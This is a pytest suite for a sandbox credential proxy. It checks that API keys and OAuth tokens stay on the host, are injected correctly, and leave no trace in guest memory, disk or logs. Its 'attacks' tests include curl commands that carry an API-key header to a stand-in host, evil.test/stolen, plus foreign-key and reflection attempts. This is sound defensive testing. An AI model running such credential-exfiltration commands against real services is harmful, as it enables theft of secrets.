# SPDX-License-Identifier: Apache-2.0
"""Credentials that never enter the sandbox: real clients in a real VM, real servers on loopback
(tests/rigs/lab/credlab.py).

The canaries are set with `sbx secret`; the servers say what arrived; and at the end everything that
the guest is (memory, disk, environments) and everything that sbx writes down is searched for them.
"""
import base64
import json
import os
import pathlib
import re
import secrets
import shlex
import subprocess
import sys
import time

import host
import pytest

from installation import TREE, WITH_DOCKER, private
from term import Terminal

sys.path.insert(0, str(TREE / "tests" / "rigs" / "lab"))
import credlab  # noqa: E402

SLOW = 600  # dockerd under software emulation
CANARIES = {
    "anthropic": "sk-ant-api03-" + secrets.token_hex(24),
    "openai": "sk-proj-" + secrets.token_hex(24),
    "github": "gho_" + secrets.token_hex(18),
    "groq": "gsk_" + secrets.token_hex(24),
    "lab-api": "lab-" + secrets.token_hex(20),
    "lab-git": "lg-" + secrets.token_hex(20),
    "lab-registry": "reg:" + secrets.token_hex(16),
}
# What a server must have got, by name of the host.
SLOTS = {
    "api.anthropic.com": ("x-api-key", CANARIES["anthropic"]),
    "api.openai.com": ("authorization", "Bearer " + CANARIES["openai"]),
    "api.github.com": ("authorization", "Bearer " + CANARIES["github"]),
    "api.groq.com": ("authorization", "Bearer " + CANARIES["groq"]),
    "api.test": ("x-secret", "key=" + CANARIES["lab-api"]),
}
TOKEN = "tok-" + secrets.token_hex(20)
GIT_USER = "x-access-token"
# Scripts say these names; the servers have the real ones, which the guest's programs must see.
REAL = {"here.test": "api.anthropic.com", "git.test": "github.com", "groq.test": "api.groq.com",
        "login.test": "platform.claude.com", "account.test": "mcp-proxy.anthropic.com"}


# How the agents log in: the pages of the provider, and the callback.
ACCOUNTS = {
    "claude": {"page": "claude.ai/oauth/authorize", "token": "platform.claude.com/v1/oauth/token",
               "api": "mcp-proxy.anthropic.com", "callback": "localhost:54545/callback"},
    "codex": {"page": "auth.openai.com/oauth/authorize", "token": "auth.openai.com/oauth/token",
              "api": "chatgpt.com", "callback": "localhost:1455/auth/callback"},
    "gemini": {"page": "accounts.google.com/o/oauth2/v2/auth",
               "token": "oauth2.googleapis.com/token",
               "api": "cloudcode-pa.googleapis.com", "callback": "127.0.0.1:45821/oauth2callback"},
}


@pytest.fixture(scope="module")
def lab(tmp_path_factory):
    with credlab.Lab(tmp_path_factory.mktemp("lab")) as made:
        made.server = made.origin(tokens=TOKEN)
        made.evil = made.origin(tokens=TOKEN)
        made.gits = made.git(CANARIES["github"], GIT_USER)
        user, _, password = CANARIES["lab-registry"].partition(":")
        made.images = made.registry(user, password)
        yield made


@pytest.fixture(scope="module")
def env(lab):
    with private(policy="none") as made:
        made.env["SBX_TRACE"] = "ipc,net,vm,exec"  # test_no_canary_is_anywhere reads the traces
        ports = {**dict.fromkeys(SLOTS, lab.server.port), "evil.test": lab.evil.port,
                 "github.com": lab.gits.port, "registry.test": lab.images.port,
                 "plain.test": lab.server.port, "bare.test": lab.server.port,
                 REAL["login.test"]: lab.server.port,
                 REAL["account.test"]: lab.server.port,
                 **{a[k].split("/")[0]: lab.server.port for a in ACCOUNTS.values()
                    for k in ("token", "api")}}
        made.sbx("settings", "set", "network.connect-to",
                 ",".join(f"{name}:443=127.0.0.1:{port}" for name, port in ports.items()))
        made.sbx("settings", "set", "network.extra-ca", lab.ca.pem)
        made.sbx("policy", "set-default", "deny-all")
        made.sbx("policy", "reset", "--yes", check=False)
        made.sbx("policy", "set-default", "balanced")
        made.sbx("policy", "allow", "network", ",".join(ports))
        for name in ("anthropic", "openai", "github", "groq"):
            made.sbx("secret", "set", name, input=CANARIES[name])
        made.sbx("secret", "set-custom", "--host", "api.test", "--header", "x-secret", "--format",
                 "key=%s", "--env", "LAB_KEY", "lab-api",
                 input=CANARIES["lab-api"])
        basic = base64.b64encode(CANARIES["lab-registry"].encode()).decode()
        made.sbx("secret", "set-custom", "--host", "registry.test", "--header", "authorization",
                 "--format", "Basic %s", "lab-registry", input=basic)
        yield made


@pytest.fixture(scope="module")
def box(env, lab):
    folder = env.make_folder("cred")
    made = env.create("cred", folder, memory=WITH_DOCKER)
    assert made.info()["start"] == ("resumed" if os.environ.get("SBX_SUSPENDED") else "warm")
    made.folder = folder
    (folder / "lab.pem").write_bytes(lab.ca.pem.read_bytes())
    yield made
    made.rm()


def real(script, **more):
    for name, host in {**REAL, **more}.items():
        script = script.replace(name, host)
    return script


def client(box, script, user="agent", timeout=120):
    return box.guest(real(script), user=user, timeout=timeout)


def got(lab, path, host="api.anthropic.com", n=1):
    """The request that came: with the right credential once, and nothing of the guest's own."""
    request = lab.server.wait(path, n)[-1]
    name, want = SLOTS[host]
    assert lab.server.header(request, name) == [want], request
    assert "proxy-managed" not in json.dumps(request) and "proxymanaged" not in json.dumps(
        request), request
    return request


# what the guest sees

def test_the_guest_has_sentinels_and_says_who_it_is(box):
    env = client(box, "env")
    for name in ("ANTHROPIC_API_KEY", "OPENAI_API_KEY", "GH_TOKEN", "GROQ_API_KEY", "LAB_KEY"):
        value = re.search(rf"^{name}=(.*)$", env, re.M)
        assert value and re.search("proxy-?managed", value[1]), (name, value)
    for canary in CANARIES.values():
        assert canary not in env


CLIENTS = {
    "curl-h1": "curl -sS --http1.1 -m 60 -H \"x-api-key: $ANTHROPIC_API_KEY\" https://here.test/PATH",
    "curl-h2": "curl -sS --http2 -m 60 -H \"x-api-key: $ANTHROPIC_API_KEY\" https://here.test/PATH",
    "curl-transparent": "env -u https_proxy -u HTTPS_PROXY curl -sS -m 60 https://here.test/PATH",
    "python-urllib": "python3 -c 'import urllib.request as u,os; print(u.urlopen(u.Request(\"https://here.test/PATH\", "
                     "headers={\"x-api-key\": os.environ[\"ANTHROPIC_API_KEY\"]}), timeout=60).read())'",
    "python-requests": "python3 -c 'from pip._vendor import requests; print(requests.get(\"https://here.test/PATH\", timeout=60).text)'",
    "node-fetch": "node -e 'fetch(\"https://here.test/PATH\", {headers: {\"x-api-key\": process.env.ANTHROPIC_API_KEY}})"
                  ".then(r => r.text()).then(console.log)'",
    # Debian's node reads the system's list; the one that people install reads its own and
    # NODE_EXTRA_CA_CERTS.
    "node-own-roots": "node --use-bundled-ca -e 'fetch(\"https://here.test/PATH\").then(r => r.text()).then(console.log)'",
    "node-https": "node -e 'require(\"https\").get(\"https://here.test/PATH\", r => r.pipe(process.stdout))'",
}


@pytest.mark.parametrize("name", CLIENTS)
def test_a_client_is_authenticated(box, lab, name):
    out = client(box, CLIENTS[name].replace("PATH", name))
    assert '"ok":true' in out.replace("\\", ""), out
    request = got(lab, "/" + name)
    if name == "curl-h2":
        assert request["version"] == "2.0"


def test_everybody_reads_the_ca_and_only_root_the_share(box):
    """The workspaces' share had closed the directory of the CA: node and Java of the agent could
    not read the CA."""
    client(box, "cat $NODE_EXTRA_CA_CERTS $SSL_CERT_FILE /run/sbx/cacerts > /dev/null")
    assert box.fails("ls /run/sbx/workspaces",
                     user="agent") and not box.fails("ls /run/sbx/workspaces/share")


@pytest.mark.parametrize("host", [h for h in SLOTS if h != "api.anthropic.com"])
def test_each_service_has_its_slot(box, lab, host):
    box.guest(real(f"curl -sS -m 60 https://here.test/slot-{host}", **{"here.test": host}),
              user="agent", timeout=120)
    got(lab, f"/slot-{host}", host)


# rules about requests: bare.test has no credential, api.test and github.com have one

RULES = ["allow http bare.test/v1/** method GET", "allow http api.test/v1/** method GET",
         f"allow git {REAL['git.test']}/acme/* do fetch", "deny http plain.test/secret/**"]


@pytest.fixture
def ruled(env, lab):
    """The policy with RULES, and afterwards without them."""
    before = env.sbx("policy", "export").stdout
    lines = before.replace("policy 1", "policy 2", 1).splitlines()
    env.sbx("policy", "import", "-", "--yes",
            input="\n".join([lines[0], *RULES, *lines[1:], ""]))
    lab.server.clear()
    yield
    env.sbx("policy", "import", "-", "--yes", input=before)


def curl(box, url, *more):
    """The status and the text."""
    out = client(box, f"curl -sS -m 60 --path-as-is -w '\\n%{{http_code}}' {' '.join(more)} {url}")
    text, _, status = out.strip().rpartition("\n")
    return int(status), text


def test_what_a_rule_permits_passes(box, lab, ruled):
    for host in ("bare.test", "api.test"):
        for i, way in enumerate(("--http1.1", "--http2", "--noproxy '*'")):
            status, text = curl(box, f"https://{host}/v1/{host}/{i}", way)
            assert status == 200, (host, way, text)
            request = lab.server.wait(f"/v1/{host}/{i}")[-1]
            name, value = SLOTS["api.test"]
            assert lab.server.header(request, name) == ([value] if host == "api.test" else [])


def test_the_rest_is_refused_with_the_reason(box, lab, ruled):
    upgrade = ("-H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' "
               "-H 'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA=='")
    for host in ("bare.test", "api.test"):
        for more, path, effect in (("-X POST -d x", "/v1/x", f"http:POST {host} /v1/x"),
                                   ("", "/v2/x", f"http:GET {host} /v2/x"),
                                   ("--http2", "/v2/x", f"http:GET {host} /v2/x"),
                                   ("--http1.1 " + upgrade, "/v2/ws", f"http:GET {host} /v2/ws"),
                                   ("", "/v1/../v2", f"http:GET {host} /v2 odd=yes"),
                                   ("-X POST -d x --noproxy '*'", "/v1/x", f"http:POST {host}")):
            status, text = curl(box, f"https://{host}{path}", more)
            assert status == 403 and effect in text, (host, more, path, text)
            assert f"allowed: allow http {host}/v1/** method GET" in text, text
        status, text = curl(box, f"https://{host}/v1/x", "-X DELETE -H 'Accept: application/json'")
        answer = json.loads(text)
        assert status == 403 and answer["effect"] == f"http:DELETE {host} /v1/x", answer
        assert answer["allowed_instead"] == f"allow http {host}/v1/** method GET", answer
        status, text = curl(box, f"https://{host}/v1/x", "-H 'X-HTTP-Method-Override: DELETE'")
        assert status == 403 and "x-http-method-override" in text, text
    assert lab.server.requests == []
    assert "  request: http:DELETE api.test /v1/x" in client(box, "sleep 3; sbx-why")


def test_no_other_bytes_reach_such_a_host(box, lab, ruled):
    """Redirected and by CONNECT: another protocol, HTTP/2 without TLS, plain HTTP."""
    raw = r"""
import os, socket
def say(proxy, data):
    s = socket.create_connection(proxy or ("bare.test", 443), 60)
    if proxy:
        s.sendall(b"CONNECT bare.test:443 HTTP/1.1\r\nHost: bare.test:443\r\n\r\n")
        assert b" 200 " in s.recv(4096)
    s.sendall(data)
    try:
        return s.recv(4096)
    except ConnectionResetError:
        return b""
proxy = os.environ["https_proxy"].split("//")[1].rstrip("/").split(":")
for way in (None, (proxy[0], int(proxy[1]))):
    assert not say(way, b"SSH-2.0-x\r\n")
    answer = say(way, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9))
    assert answer.startswith(b"HTTP/1.1 505 "), answer
    answer = say(way, b"POST /v1/x HTTP/1.1\r\nHost: bare.test:443\r\nContent-Length: 0\r\n\r\n")
    assert answer.startswith(b"HTTP/1.1 403 ") and b"http:POST bare.test /v1/x" in answer, answer
print("refused")
"""
    assert client(box, f"python3 -c {shlex.quote(raw)}").strip().endswith("refused")
    assert lab.server.requests == []


def test_a_host_that_a_rule_denies_in_part(box, lab, ruled):
    status, text = curl(box, "https://plain.test/secret/x")
    assert status == 403 and "deny http plain.test/secret/**" in text, text
    status, _ = curl(box, "https://plain.test/other", "-X PUT -d x")
    assert status == 200 and lab.server.wait("/other")


def test_git_fetches_by_a_rule_and_does_not_push(box, lab, ruled):
    lab.gits.make("acme/a.git")
    out = client(box, "cd /tmp; rm -rf r; git clone -q https://git.test/acme/a.git r 2>&1; cd r && "
                      "git config user.email a@b && git config user.name a && echo hello > f && "
                      "git add f && git commit -q -m one; git push -q origin HEAD:main 2>&1; "
                      "echo pushed $?", timeout=300)
    assert "403" in out and "pushed 0" not in out, out


def test_the_log_names_the_rule_and_the_request(env, box, ruled):
    log = env.sbx("policy", "log", "cred").stdout
    assert "intercepted for the rule allow http bare.test/v1/** method GET" in log, log
    assert "http:POST bare.test /v1/x" in log, log


def test_git_clones_and_pushes(box, lab):
    lab.gits.make("a.git")
    out = client(box,
                 "set -e; cd /tmp; rm -rf a; git clone -q https://git.test/a.git a 2>&1; cd a; git config user.email a@b; git config user.name a; "
                      "echo hello > f; git add f; git commit -q -m one; git push -q origin HEAD:main 2>&1; rm -rf /tmp/b; git clone -q -b main "
                      "https://git.test/a.git /tmp/b; cat /tmp/b/f")
    assert out.endswith("hello"), out
    assert set(lab.gits.users) <= {"", lab.gits.want}, lab.gits.users


def test_a_websocket_is_authenticated(box, lab):
    script = r"""
import base64, os, socket, ssl
tcp = socket.create_connection(("api.test", 443), 60)
s = ssl.create_default_context().wrap_socket(tcp, server_hostname="api.test")
s.sendall(b"GET /ws HTTP/1.1\r\nHost: api.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
          b"Sec-WebSocket-Version: 13\r\n"
          b"Sec-WebSocket-Key: " + base64.b64encode(os.urandom(16)) + b"\r\n\r\n")
head = b""
while b"\r\n\r\n" not in head:
    head += s.recv(1)
assert b" 101 " in head, head
for i in range(20):
    s.sendall(bytes([0x81, 0x85]) + b"abcd" + bytes(c ^ k for c, k in zip(b"hello", b"abcda")))
    frame = b""
    while len(frame) < 7:
        frame += s.recv(7 - len(frame))
    assert frame == b"\x81\x05hello", frame
print("echoed")
"""
    (box.folder / "ws.py").write_text(script)
    assert client(box,
                  f"env -u https_proxy -u HTTPS_PROXY python3 {shlex.quote(str(box.folder))}/ws.py").endswith("echoed")
    got(lab, "/ws", "api.test")


def test_a_stream_of_events_is_not_held_up(box, lab):
    script = (
        "python3 -u -c 'import time,urllib.request as u; r=u.urlopen(\"https://here.test/sse?n=6&ms=1000\", timeout=60); "
              "t=[time.time() for c in iter(lambda: r.read1(1), b\"\")]; print(max(b-a for a,b in zip(t,t[1:])))'")
    gap = float(client(box, script))
    assert gap <= 1.1, f"{gap} s between two bytes"


def test_a_body_is_streamed_both_ways(box, lab):
    n = 64 << 20
    out = client(box,
                 f"head -c {n} /dev/zero | curl -sS -m 300 -T - https://here.test/up; curl -sS -m 300 "
                      f"'https://here.test/download?n={n}' | wc -c", timeout=700)
    assert out.split()[-1] == str(n), out[-300:]
    assert got(lab, "/up")["length"] == n


# attacks

def test_a_foreign_key_does_not_leave(box, lab):
    for header in ("x-api-key: sk-ant-thief", "X-API-KEY: thief", "authorization: Bearer thief"):
        out = client(box,
                     f"curl -sS -m 60 -w '%{{http_code}}' -H '{header}' https://here.test/foreign")
        assert out.endswith("403") and "credential" in out, out
    assert not [r for r in lab.server.requests if r["path"] == "/foreign"]


def test_a_redirect_takes_no_credential_along(box, lab):
    client(box,
           "curl -sS -m 60 -L --cacert /etc/ssl/certs/ca-certificates.crt -H \"x-api-key: $ANTHROPIC_API_KEY\" "
                f"--cacert {shlex.quote(str(box.folder))}/lab.pem 'https://here.test/redirect?to=https://evil.test/stolen'; true")
    client(box,
           f"curl -sS -m 60 --cacert {shlex.quote(str(box.folder))}/lab.pem -H \"x-api-key: $ANTHROPIC_API_KEY\" https://evil.test/stolen")
    for request in lab.evil.wait("/stolen"):
        assert not any(canary in json.dumps(request) for canary in CANARIES.values()), request


@pytest.mark.parametrize("how",
                         ["plain", "base64", "base64a", "base64b", "base64url", "hex", "HEX",
                          "percent", "percentsome", "json", "html", "htmlhex",
                                 "utf16", "twice", "split", "header", "trailer", "gzip", "deflate",
                          "br", "zstd", "redirect"])
def test_a_reflection_is_removed(box, lab, how):
    done = box.exec("curl", "-sS", "-i", "-m", "60", "--compressed",
                    real(f"https://here.test/reflect/{how}"), user="agent", binary=True,
                    timeout=120)
    said, canary = done.stdout, CANARIES["anthropic"].encode()
    got(lab, f"/reflect/{how}")
    for form in (canary, canary.hex().encode(), canary.hex().upper().encode(),
                 base64.b64encode(canary)[:-4], base64.b64encode(b"u:" + canary)[4:-4],
                 base64.b64encode(b"x" + canary)[4:-4], canary.decode().encode("utf-16le"),
                 "".join(f"%{b:02x}" for b in canary).encode(),
                 "".join(f"&#{b};" for b in canary).encode(),
                 "".join(f"\\u00{b:02x}" for b in canary).encode()):
        assert form not in said, said[:600]
    assert b"*" in said, said[:600]


def test_plain_http_to_its_host_is_refused(box):
    out = client(box, "curl -sS -m 60 -w '%{http_code}' http://here.test/plain")
    assert out.endswith("403") and "https" in out, out


def test_another_host_is_not_opened(box, lab):
    """No credential, no interception: the guest sees the server's own certificate."""
    out = client(box,
                 f"curl -sS -m 60 --cacert {shlex.quote(str(box.folder))}/lab.pem https://plain.test/through")
    assert '"ok":true' in out
    # The sandbox's CA is the first in the file, the user's own CAs follow. Alone it must not be
    # enough.
    own = "mkdir -p /tmp/no-path && sed '/END CERT/q' /run/sbx/ca.pem >/tmp/own.pem && "
    out = client(box,
                 own
                 + "curl -sS -m 60 --cacert /tmp/own.pem --capath /tmp/no-path "
                   "https://plain.test/through 2>&1; true")
    assert "certificate" in out


# containers

@pytest.fixture(scope="module")
def docker(box, lab):
    from test_network import container_image
    container_image(box.folder / "image.tar", "lab:1")
    box.guest(f"docker load -q -i {shlex.quote(str(box.folder))}/image.tar", timeout=SLOW)
    return box


def test_a_container_is_authenticated(docker, lab):
    out = docker.guest(
        real(
        "docker run --rm -v /usr:/usr:ro -v /etc/ssl:/etc/ssl:ro lab:1 curl -sS -m 60 "
        "https://here.test/container"), timeout=SLOW)
    assert '"ok":true' in out
    got(lab, "/container")


@pytest.fixture(scope="module")
def curl_image(box):
    """An image whose files are the guest's own: a shell, curl and their libraries."""
    box.guest(
        "set -e; rm -rf /tmp/r; mkdir -p /tmp/r/bin /tmp/r/etc /tmp/r/tmp; cd /tmp/r; for f in bash cat curl; do cp -L $(command -v $f) bin/; done; "
              "ln -s bash bin/sh; ldd bin/bash bin/cat bin/curl | grep -o '/[^ ]*\\.so[^ ]*' | sort -u | while read l; do mkdir -p .${l%/*}; cp -L $l .$l; done; "
              "tar c . | docker import -c 'ENV PATH=/bin' - lab-curl", timeout=SLOW)
    return "lab-curl"


@pytest.mark.parametrize("kit", ("1", "0"))
def test_a_build_step_is_authenticated(box, lab, curl_image, kit):
    out = box.guest(
        real(
        f"set -e; rm -rf /tmp/b; mkdir /tmp/b; cd /tmp/b; printf 'FROM {curl_image}\\nRUN curl -sS -m 60 -o /tmp/page https://here.test/build-step-{kit}\\n' "
                         f">Dockerfile; DOCKER_BUILDKIT={kit} docker build --no-cache -t built . >log 2>&1 || {{ cat log; exit 1; }}; "
                         "docker run --rm built cat /tmp/page"), timeout=SLOW)
    assert '"ok":true' in out, out
    assert lab.server.header(got(lab, f"/build-step-{kit}"), "user-agent")[0].startswith("curl/")


def test_docker_pushes_and_pulls_with_a_credential(docker, lab):
    docker.guest(
        "docker tag lab:1 registry.test/lab:1 && docker push -q registry.test/lab:1 && docker rmi registry.test/lab:1 && "
                 "docker pull -q registry.test/lab:1", timeout=SLOW)


# a login inside the sandbox

def test_tokens_of_a_login_stay_on_the_host(box, lab):
    """The guest sees placeholders; with them it is authenticated, and refreshes."""
    said = client(box,
                  "curl -sS -m 60 -H 'content-type: application/json' -d '{\"grant_type\":\"authorization_code\",\"code\":\"c\"}' "
                       "https://login.test/v1/oauth/token")
    assert "proxy-managed" in said and TOKEN not in said, said
    client(box,
           "curl -sS -m 60 -H 'authorization: Bearer sk-ant-oat01-proxy-managed' https://account.test/account")
    assert lab.server.header(lab.server.wait("/account")[0],
                             "authorization") == [f"Bearer {TOKEN}-access-1"]
    refresh = json.loads(said)["refresh_token"]
    body = json.dumps({"grant_type": "refresh_token", "refresh_token": refresh})
    time.sleep(1)
    said = client(box,
                  f"curl -sS -m 60 -H 'content-type: application/json' -d '{body}' https://login.test/v1/oauth/token")
    assert "proxy-managed" in said and TOKEN not in said, said
    CANARIES["token"] = TOKEN


# An OAuth client with the hosts and the callback of an agent: listens, opens the page, takes the
# code, ends when the page after it was fetched, gets its tokens and uses one.
LOGIN = """
import http.server, json, subprocess, sys, urllib.parse as u
name, page, token, api, callback = sys.argv[1:]
class Login(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        query = u.parse_qs(u.urlsplit(self.path).query)
        if self.path.startswith("/" + callback.partition("/")[2] + "?"):
            assert query["state"] == ["s-" + name]
            self.server.code = query["code"][0]
            self.send_response(302)
            self.send_header("Location", "/success")
        else:
            self.send_response(200)
            self.server.ended = True
        self.end_headers()
    def log_message(self, *args):
        pass
port = int(callback.partition("/")[0].rpartition(":")[2])
server = http.server.HTTPServer(("127.0.0.1", port), Login)
server.ended = False
subprocess.run(["xdg-open", "https://" + page + "?" + u.urlencode({"client_id": name,
    "response_type": "code", "state": "s-" + name, "redirect_uri": "http://" + callback})],
    check=True)
while not server.ended:
    server.handle_request()
body = {"grant_type": "authorization_code", "code": server.code}
kind = "json" if name == "claude" else "x-www-form-urlencoded"
said = subprocess.run(["curl", "-sS", "-m", "60", "-H", "content-type: application/" + kind, "-d",
    json.dumps(body) if name == "claude" else u.urlencode(body), "https://" + token],
    check=True, capture_output=True, text=True).stdout
print(said)
open("/home/agent/." + name + "-login", "w").write(said)
subprocess.run(["curl", "-sS", "-m", "60", "-H", "authorization: Bearer "
    + json.loads(said)["access_token"], "https://" + api + "/account-" + name], check=True)
"""


@pytest.fixture
def chromium(env, lab, tmp_path):
    """$BROWSER: a headless Chromium that finds the pages of the providers in the lab."""
    hosts = {a["page"].split("/")[0] for a in ACCOUNTS.values()}
    rules = ",".join(f"MAP {h}:443 127.0.0.1:{lab.server.port}" for h in hosts)
    program = tmp_path / "chromium"
    program.write_text("#!/bin/sh\nexec chromium --headless=new --no-sandbox --disable-gpu "
                       f"--user-data-dir={tmp_path}/profile --ignore-certificate-errors "
                       f"--host-resolver-rules='{rules}' --dump-dom \"$1\" >{tmp_path}/page "
                       f"2>{tmp_path}/errors\n")
    program.chmod(0o755)
    env.env["BROWSER"] = str(program)
    yield tmp_path / "page"
    del env.env["BROWSER"]


@pytest.mark.parametrize("name", list(ACCOUNTS))
def test_an_account_logs_in_with_the_browser_of_the_host(env, box, lab, chromium, name):
    account = ACCOUNTS[name]
    program = subprocess.Popen(
        ["sbx", "exec", "-i", box.name, "python3", "-", name,
         *(account[k] for k in ("page", "token", "api", "callback"))],
        env=env.env, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    program.stdin.write(LOGIN)
    program.stdin.close()
    links = host.until(lambda: json.loads(env.sbx("open", "--json").stdout)["links"], 120)
    with Terminal(env, "sbx", "open", links[0]["id"]) as t:
        t.wait_for("is passed into the sandbox", 60)
        t.line("y")
        t.wait_for("Passed the callback into the sandbox", 120)
        assert t.wait_end(60) == 0
    said = program.stdout.read()
    assert program.wait(120) == 0, said
    assert "proxy-managed" in said and TOKEN not in said, said
    sent = lab.server.header(lab.server.wait(f"/account-{name}")[0], "authorization")
    assert len(sent) == 1 and sent[0].startswith(f"Bearer {TOKEN}-access-"), sent
    host.until(lambda: "received the login" in chromium.read_text(), 60)
    CANARIES["token"] = TOKEN


# a change reaches running sandboxes at once

def test_a_new_value_counts_at_once_and_a_removed_one_no_more(env, box, lab):
    new = "gsk_" + secrets.token_hex(24)
    env.sbx("secret", "set", "-f", "groq", input=new)
    client(box, "curl -sS -m 60 https://groq.test/renewed")
    assert lab.server.header(lab.server.wait("/renewed")[0], "authorization") == ["Bearer " + new]
    env.sbx("secret", "rm", "-f", "groq")
    client(box,
           f"curl -sS -m 60 --cacert {shlex.quote(str(box.folder))}/lab.pem https://groq.test/removed")
    assert lab.server.header(lab.server.wait("/removed")[0], "authorization") == []
    CANARIES["groq-2"] = new
    env.sbx("secret", "set", "groq", input=CANARIES["groq"])


def test_it_works_after_a_restart_and_after_kills(env, box, lab):
    box.stop()
    client(box, "curl -sS -m 60 https://here.test/restarted", timeout=200)
    got(lab, "/restarted")
    for victim in ("edge", "egress"):
        os.kill(box.pids()[victim], 9)
        time.sleep(1)
        client(box, f"curl -sS -m 60 --retry 5 --retry-all-errors https://here.test/after-{victim}")
        got(lab, f"/after-{victim}")
    subprocess.run(["pkill", "-KILL", "-P", str(box.pids()["keeper"]), "sbx-origin"], check=False)
    client(box, "curl -sS -m 60 --retry 5 --retry-all-errors https://here.test/after-origin")
    got(lab, "/after-origin")
    os.kill(env.daemon_pid(), 9)
    client(box, "curl -sS -m 60 https://here.test/after-sbxd")
    got(lab, "/after-sbxd")
    # The vault of the sbxd that was killed: the new one starts another and gives the adopted keeper
    # a channel.
    for pid in [p for p, name in host.processes(env.folder).items() if name == "sbx-vault"]:
        os.kill(pid, 9)
    client(box, "curl -sS -m 60 --retry 8 --retry-all-errors https://here.test/after-vault",
           timeout=200)
    got(lab, "/after-vault")


# nothing is left anywhere

def spellings(value):
    raw = value.encode()
    return [raw, raw.hex().encode(), base64.b64encode(raw)[:-4]]


def find(data, canaries):
    return [name for name,
            value in canaries.items() if any(form in data for form in spellings(value))]


def memory(pid):
    """All memory of a process, in pieces that overlap."""
    with open(f"/proc/{pid}/maps",
              encoding="ascii") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
        for line in maps:
            span, mode = line.split()[:2]
            start, end = (int(x, 16) for x in span.split("-"))
            if "r" not in mode or "[vvar" in line or "[vsyscall" in line:
                continue
            at = start
            while at < end:
                try:
                    mem.seek(at)
                    yield mem.read(min(1 << 24, end - at))
                except (OSError, ValueError, OverflowError):
                    pass
                at += (1 << 24) - 4096 if end - at > 1 << 24 else end - at


def search_guest(box, canaries):
    """Names of canaries in qemu's memory, which has all of the guest's, in its disks, and in every
    environment."""
    found = set()
    box.guest("sync")
    for piece in memory(box.pids()["qemu"]):
        found.update(find(piece, canaries))
    for disk in box.state.glob("*.qcow2"):
        tail = b""
        with open(disk, "rb") as f:
            while piece := f.read(1 << 24):
                found.update(find(tail + piece, canaries))
                tail = piece[-4096:]
    found.update(find(box.guest("cat /proc/*/environ | base64 -w0", timeout=120).encode(),
                      canaries))
    environ = base64.b64decode(box.guest("cat /proc/*/environ 2>/dev/null | base64 -w0"))
    found.update(find(environ, canaries))
    return found


def test_no_canary_is_anywhere(env, box, lab):
    assert search_guest(box, CANARIES) == set()
    for path in [*env.state.rglob("*"), *env.runtime.rglob("*")]:
        if path.is_file() and path.suffix != ".qcow2":
            assert not find(path.read_bytes(), CANARIES), path
    for args in (("secret", "ls", "--json"), ("inspect", "cred"), ("audit", "show", "cred"),
                 ("policy", "log", "--json"), ("diagnose",)):
        assert not find(env.sbx(*args, check=False).stdout.encode(), CANARIES), args


def test_traces_and_the_report_for_debugging_have_no_canary(env, box, lab):
    own = {"own": "own-" + secrets.token_hex(24)}
    box.exec("sh", "-c", real("curl -sS -m 60 https://here.test/traced?q=$OWN"), own["own"],
             user="agent", flags=("-e", f"OWN={own['own']}"))
    got(lab, "/traced")
    report = env.folder / "report.txt"
    env.sbx("debug", "cred", "-o", report)
    text = report.read_text()
    assert not find(text.encode(), {**CANARIES, **own})
    for want in (r"keeper->edge VERDICT\(\d+\) id=\d+ \d+ bytes",
                 r"keeper->edge CHANNEL\(\d+\) id=\d+ 0 bytes fd",
                 r"keeper->origin for here.test:443 CHANNEL\(\d+\) id=0 0 bytes fd",
                 r"keeper->origin for here.test:443 OPEN\(\d+\) id=\d+ 34 bytes",
                 r"peer->vault RELEASE\(\d+\) id=\d+ \d+ bytes fd",
                 r"ask=\d+ tunnel here.test:443 intercept",
                 r"ask=\d+ http GET here.test:443 allow",
                 r"exchange=\d+ connected 127.0.0.1",
                 r"qmp command \w+", r"step '[^']*': done, \d+ ms",
                 r"open stream=\d+", r"close stream=\d+"):
        assert re.search(rf"sbx-keeper\[\d+\] trace \w+: {real(want)}", text), want
    for name in ("sbx-keeper", "sbx-edge", "sbx-egress", "sbx-origin", "qemu-system"):
        assert re.search(rf"^ *\d+ {name}", text, re.M), name


def test_the_search_finds_one_that_is_put_there(box):
    planted = {"planted": "planted-" + secrets.token_hex(24)}
    box.exec("sh", "-c", "cat > /home/agent/planted; sync", user="agent", input=planted["planted"])
    assert search_guest(box, planted) == {"planted"}


# sbx secret scan: the vault looks itself

# in the guest, with the value on stdin: where it must be found; memory has what was written last
PLACES = {
    "disk": "cat >/home/agent/scanned; sync",
    "docker": "mkdir -p /run/d && mount /dev/vdb /run/d && cat >/run/d/scanned; umount /run/d; sync",
    "ram": "cat >/dev/shm/scanned",
}


@pytest.mark.parametrize("place", PLACES)
def test_a_scan_of_the_sandbox_finds_a_value_where_it_was_put(env, box, place):
    value = "scan-" + secrets.token_hex(24)
    env.sbx("secret", "set-custom", "-f", "--sandbox", "cred", "--host", "scan.test", "--env",
            "SCAN_KEY", "scanned", input=value)

    def scan():
        done = env.sbx("secret", "scan", "--sandbox", "cred", "--what", place, "--json",
                       check=False, timeout=300)
        assert value not in done.stdout + done.stderr
        return done.returncode, json.loads(done.stdout)["places"][0]["credentials"]
    assert "scanned (sandbox cred)" not in scan()[1]
    box.exec("sh", "-c", PLACES[place], user="root", input=value)
    status, found = scan()
    assert status == 1 and found.get("scanned (sandbox cred)", 0) >= 1, found
    env.sbx("secret", "rm", "-f", "--sandbox", "cred", "scanned")
